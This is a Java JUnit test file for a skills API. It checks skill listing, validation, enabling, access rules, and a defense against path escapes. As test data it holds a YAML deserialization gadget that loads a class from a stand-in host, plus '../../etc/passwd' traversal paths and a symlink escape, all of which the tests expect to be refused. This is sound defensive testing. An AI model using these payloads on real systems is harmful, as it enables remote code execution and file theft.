package dev.mason.skill;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.mason.testing.Api;
import dev.mason.testing.TestMason;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The skills routes of a Mason whose SKILLS_DIR holds valid, invalid and overriding skills. */
class SkillApiTest {
  static final List<String> SHIPPED = List.of("databricks-jobs", "databricks-dbsql", "databricks-spark-declarative-pipelines");

  @TempDir
  static Path skillsDir;
  @TempDir
  static Path outside;
  static TestMason mason;
  static Api alice;
  static Api bob;

  @BeforeAll
  static void start() throws IOException {
    write("warehouse-tuning/SKILL.md", """
        ---
        name: warehouse-tuning
        description: >-
          Size and tune SQL warehouses:
          scaling, auto stop and
          query profiles.
        license: Apache-2.0
        ---

        # Warehouse tuning
        Start small, watch the queue.
        """);
    write("warehouse-tuning/notes/tips.md", "Use serverless.\n");
    write("warehouse-tuning/checklist.md", "1. Check auto stop.\n");
    write("warehouse-tuning/.hidden.md", "not listed\n");
    Files.writeString(outside.resolve("secret.txt"), "outside the skills\n");
    Files.createSymbolicLink(skillsDir.resolve("warehouse-tuning/escape.md"), outside.resolve("secret.txt"));

    write("unity-catalog/SKILL.md", """
        ---
        name: unity-catalog
        description: "Our own governance rules: overrides the shipped skill."
        ---
        Ask the data owners first.
        """);

    write("Bad_Name/SKILL.md", "---\nname: Bad_Name\ndescription: Has an upper-case name.\n---\nbody\n");
    write("too-long/SKILL.md", "---\nname: too-long\ndescription: " + "x".repeat(1025) + "\n---\nbody\n");
    write("no-front-matter/SKILL.md", "# Just Markdown\nname: no-front-matter\n");
    write("other-folder/SKILL.md", "---\nname: not-the-folder\ndescription: Folder and name differ.\n---\n");
    write("duplicate-keys/SKILL.md", "---\nname: duplicate-keys\nname: duplicate-keys\ndescription: Twice.\n---\n");
    write("yaml-tag/SKILL.md", "---\nname: yaml-tag\ndescription: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n---\n");
    write("no-skill-md/README.md", "a folder without SKILL.md\n");
    Files.writeString(skillsDir.resolve("README.md"), "Top-level files are not skills.\n");
    write(".git/SKILL.md", "---\nname: git\ndescription: hidden folders are not skills\n---\n");

    mason = TestMason.start(Map.of("SKILLS_DIR", skillsDir.toString(), "APP_OWNER", "alice@example.com"));
    alice = mason.as("alice@example.com");
    bob = mason.as("bob@example.com");
  }

  @AfterAll
  static void stop() {
    mason.close();
  }

  @Test
  void theShippedSkillsAreListedAndAllEnabledByDefault() {
    JsonNode body = alice.get(skills(newProject(), "available")).json();
    assertThat(names(body.get("skills"))).containsAll(SHIPPED).contains("warehouse-tuning");
    assertThat(body.get("all_enabled").asBoolean()).isTrue();
    assertThat(body.get("total_count").asInt()).isEqualTo(body.get("skills").size());
    assertThat(body.get("enabled_count").asInt()).isEqualTo(body.get("skills").size());
    body.get("skills").forEach(skill -> assertThat(skill.get("enabled").asBoolean()).isTrue());
    assertThat(description(body, "databricks-dbsql")).contains("SQL warehouse");
  }

  @Test
  void aFoldedMultiLineDescriptionIsShownAsFoldedText() {
    JsonNode body = alice.get(skills(newProject(), "available")).json();
    assertThat(description(body, "warehouse-tuning"))
        .isEqualTo("Size and tune SQL warehouses: scaling, auto stop and query profiles.");
  }

  @Test
  void aSkillsDirSkillOverridesTheShippedOneOfTheSameName() {
    JsonNode body = alice.get(skills(newProject(), "available")).json();
    assertThat(names(body.get("skills")).stream().filter("unity-catalog"::equals)).hasSize(1);
    assertThat(description(body, "unity-catalog")).isEqualTo("Our own governance rules: overrides the shipped skill.");
    // It is named by a shipped skill's alias: it replaces that skill and answers to its names.
    assertThat(names(body.get("skills"))).doesNotContain("databricks-unity-catalog");
    assertThat(texts(byName(body.get("skills"), "unity-catalog").get("aliases"))).contains("databricks-unity-catalog", "uc");
  }

  @Test
  void invalidSkillsAreLeftOutAndReportedWithTheFileAndTheRule() {
    JsonNode body = alice.get(skills(newProject(), "available")).json();
    assertThat(names(body.get("skills"))).doesNotContain("Bad_Name", "too-long", "no-front-matter",
        "not-the-folder", "other-folder", "duplicate-keys", "yaml-tag", "git", "no-skill-md");
    Map<String, String> problems = problems(body.get("problems"));
    assertThat(problems.get("SKILLS_DIR/Bad_Name/SKILL.md")).contains("name 'Bad_Name'").contains("lowercase");
    assertThat(problems.get("SKILLS_DIR/too-long/SKILL.md")).contains("description has 1025 characters").contains("1024");
    assertThat(problems.get("SKILLS_DIR/no-front-matter/SKILL.md")).contains("missing front matter");
    assertThat(problems.get("SKILLS_DIR/other-folder/SKILL.md")).contains("does not match its folder 'other-folder'");
    assertThat(problems.get("SKILLS_DIR/duplicate-keys/SKILL.md")).contains("not valid YAML").contains("duplicate");
    assertThat(problems.get("SKILLS_DIR/yaml-tag/SKILL.md")).contains("not valid YAML");
    assertThat(problems.get("SKILLS_DIR/no-skill-md/SKILL.md")).contains("missing");
    assertThat(problems).doesNotContainKey("SKILLS_DIR/.git/SKILL.md");
    assertThat(body.get("problems").toString()).doesNotContain(skillsDir.toString());
  }

  @Test
  void enablingSomeSkillsIsReflectedInTheListAndTheTree() {
    String project = newProject();
    var put = alice.put(skills(project, "enabled"), "{\"enabled_skills\": [\"databricks-sql\", \"warehouse-tuning\", \"databricks-sql\"]}");
    assertThat(put.status()).as(put.toString()).isEqualTo(200);
    assertThat(put.json().get("success").asBoolean()).isTrue();
    // Stored by the skill's own name: databricks-sql is the old name of databricks-dbsql.
    assertThat(texts(put.json().get("enabled_skills"))).containsExactly("databricks-dbsql", "warehouse-tuning");
    assertThat(put.json().get("all_enabled").asBoolean()).isFalse();

    JsonNode body = alice.get(skills(project, "available")).json();
    assertThat(body.get("enabled_count").asInt()).isEqualTo(2);
    assertThat(body.get("all_enabled").asBoolean()).isFalse();
    assertThat(body.get("total_count").asInt()).isEqualTo(body.get("skills").size()).isGreaterThan(2);
    List<String> enabled = new ArrayList<>();
    body.get("skills").forEach(s -> {
      if (s.get("enabled").asBoolean()) {
        enabled.add(s.get("name").asText());
      }
    });
    assertThat(enabled).containsExactly("databricks-dbsql", "warehouse-tuning");
    assertThat(names(alice.get(skills(project, "tree")).json().get("tree"))).containsExactly("databricks-dbsql", "warehouse-tuning");

    var reset = alice.put(skills(project, "enabled"), "{\"enabled_skills\": null}");
    assertThat(reset.json().get("enabled_skills").isNull()).isTrue();
    assertThat(reset.json().get("all_enabled").asBoolean()).isTrue();
    assertThat(alice.get(skills(project, "available")).json().get("all_enabled").asBoolean()).isTrue();
  }

  @Test
  void enablingUnknownSkillsIsRefusedNamingThem() {
    String project = newProject();
    var response = alice.put(skills(project, "enabled"), "{\"enabled_skills\": [\"databricks-sql\", \"nope\", \"Bad_Name\"]}");
    assertThat(response.status()).isEqualTo(400);
    assertThat(response.json().get("field").asText()).isEqualTo("enabled_skills");
    assertThat(response.json().get("error").asText()).startsWith("unknown skills: nope, Bad_Name (available: ");
    assertThat(alice.get(skills(project, "available")).json().get("all_enabled").asBoolean()).isTrue();

    var missingField = alice.put(skills(project, "enabled"), "{\"enabled\": []}");
    assertThat(missingField.status()).isEqualTo(400);
    assertThat(missingField.json().get("field").asText()).isEqualTo("enabled_skills");
    var notText = alice.put(skills(project, "enabled"), "{\"enabled_skills\": [\"databricks-sql\", 3]}");
    assertThat(notText.status()).isEqualTo(400);
    assertThat(notText.json().get("field").asText()).isEqualTo("enabled_skills[1]");
  }

  @Test
  void theTreeShowsEachSkillFolderWithItsFilesAndSubfolders() {
    JsonNode tree = alice.get(skills(newProject(), "tree")).json().get("tree");
    JsonNode tuning = byName(tree, "warehouse-tuning");
    assertThat(tuning.get("type").asText()).isEqualTo("directory");
    assertThat(tuning.get("path").asText()).isEqualTo("warehouse-tuning");
    assertThat(names(tuning.get("children"))).containsExactly("notes", "SKILL.md", "checklist.md");
    JsonNode notes = byName(tuning.get("children"), "notes");
    assertThat(notes.get("type").asText()).isEqualTo("directory");
    JsonNode tips = byName(notes.get("children"), "tips.md");
    assertThat(tips.get("path").asText()).isEqualTo("warehouse-tuning/notes/tips.md");
    assertThat(tips.get("type").asText()).isEqualTo("file");
    assertThat(tips.has("children")).isFalse();
    assertThat(names(byName(tree, "databricks-dbsql").get("children"))).contains("SKILL.md", "functions.md");
  }

  @Test
  void aSkillFileIsReadByItsPathInsideTheSkills() {
    String project = newProject();
    JsonNode tips = alice.get(file(project, "warehouse-tuning/notes/tips.md")).json();
    assertThat(tips.get("path").asText()).isEqualTo("warehouse-tuning/notes/tips.md");
    assertThat(tips.get("filename").asText()).isEqualTo("tips.md");
    assertThat(tips.get("content").asText()).isEqualTo("Use serverless.\n");

    JsonNode shipped = alice.get(file(project, "databricks-dbsql/SKILL.md")).json();
    assertThat(shipped.get("content").asText()).startsWith("---\nname: databricks-dbsql\n");
  }

  @Test
  void pathsLeavingTheSkillsAreRefused() {
    String project = newProject();
    for (String path : List.of("warehouse-tuning/../../etc/passwd", "../secret.txt", "/etc/passwd",
        "warehouse-tuning/./SKILL.md", "warehouse-tuning//SKILL.md", "warehouse-tuning\\SKILL.md")) {
      var response = alice.get(file(project, path));
      assertThat(response.status()).as(path).isEqualTo(400);
      assertThat(response.json().get("field").asText()).isEqualTo("path");
    }
    var missing = alice.get(skills(project, "file"));
    assertThat(missing.status()).isEqualTo(400);
    assertThat(missing.json().get("field").asText()).isEqualTo("path");

    var unknownSkill = alice.get(file(project, "nope/SKILL.md"));
    assertThat(unknownSkill.status()).isEqualTo(404);
    assertThat(unknownSkill.json().get("error").asText()).contains("skill 'nope'");
    var unknownFile = alice.get(file(project, "warehouse-tuning/nope.md"));
    assertThat(unknownFile.status()).isEqualTo(404);
    assertThat(unknownFile.json().get("error").asText()).contains("nope.md");
    assertThat(alice.get(file(project, "warehouse-tuning/.hidden.md")).status()).isEqualTo(404);
    var link = alice.get(file(project, "warehouse-tuning/escape.md"));
    assertThat(link.status()).isEqualTo(404);
    assertThat(link.body()).doesNotContain("outside the skills");
  }

  @Test
  void reloadPicksUpANewSkillFromSkillsDir() throws IOException {
    String project = newProject();
    assertThat(names(alice.get(skills(project, "available")).json().get("skills"))).doesNotContain("late-arrival");
    write("late-arrival/SKILL.md", "---\nname: late-arrival\ndescription: Added while Mason runs.\n---\nHello.\n");

    var reload = alice.post(skills(project, "reload"), null);
    assertThat(reload.status()).as(reload.toString()).isEqualTo(200);
    assertThat(reload.json().get("success").asBoolean()).isTrue();
    assertThat(reload.json().get("message").asText()).contains("skills loaded").contains("Bad_Name");

    JsonNode body = alice.get(skills(project, "available")).json();
    assertThat(description(body, "late-arrival")).isEqualTo("Added while Mason runs.");
  }

  @Test
  void onlyTheAppOwnerReloadsTheCatalogEveryUserShares() {
    String bobs = bob.post("/api/projects", "{\"name\": \"bob's\"}").json().get("id").asText();

    var reload = bob.post(skills(bobs, "reload"), null);

    assertThat(reload.status()).as(reload.toString()).isEqualTo(403);
    assertThat(reload.json().get("error").asText()).contains("alice@example.com").contains("bob@example.com");
  }

  @Test
  void anotherUsersProjectIsNotFoundOnEverySkillsRoute() {
    String project = newProject();
    List<Api.Response> responses = List.of(
        bob.get(skills(project, "available")),
        bob.put(skills(project, "enabled"), "{\"enabled_skills\": []}"),
        bob.post(skills(project, "reload"), null),
        bob.get(skills(project, "tree")),
        bob.get(file(project, "databricks-sql/SKILL.md")),
        alice.get("/api/projects/not-a-uuid/skills/available"));
    for (Api.Response response : responses) {
      assertThat(response.status()).as(response.toString()).isEqualTo(404);
      assertThat(response.json().get("error").asText()).contains("project");
    }
    assertThat(alice.get(skills(project, "available")).json().get("all_enabled").asBoolean())
        .as("bob's PUT changed nothing").isTrue();
  }

  static String newProject() {
    var created = alice.post("/api/projects", "{\"name\": \"Skills\"}");
    assertThat(created.status()).isEqualTo(201);
    return created.json().get("id").asText();
  }

  static String skills(String project, String route) {
    return "/api/projects/" + project + "/skills/" + route;
  }

  static String file(String project, String path) {
    return skills(project, "file") + "?path=" + URLEncoder.encode(path, StandardCharsets.UTF_8);
  }

  static void write(String relative, String content) throws IOException {
    Path file = skillsDir.resolve(relative);
    Files.createDirectories(file.getParent());
    Files.writeString(file, content);
  }

  static List<String> names(JsonNode array) {
    List<String> names = new ArrayList<>();
    array.forEach(node -> names.add(node.get("name").asText()));
    return names;
  }

  static List<String> texts(JsonNode array) {
    List<String> texts = new ArrayList<>();
    array.forEach(node -> texts.add(node.asText()));
    return texts;
  }

  static JsonNode byName(JsonNode array, String name) {
    for (JsonNode node : array) {
      if (node.get("name").asText().equals(name)) {
        return node;
      }
    }
    throw new AssertionError("no " + name + " in " + array);
  }

  static String description(JsonNode available, String name) {
    return byName(available.get("skills"), name).get("description").asText();
  }

  static Map<String, String> problems(JsonNode array) {
    Map<String, String> problems = new HashMap<>();
    array.forEach(p -> problems.put(p.get("file").asText(), p.get("error").asText()));
    return problems;
  }
}
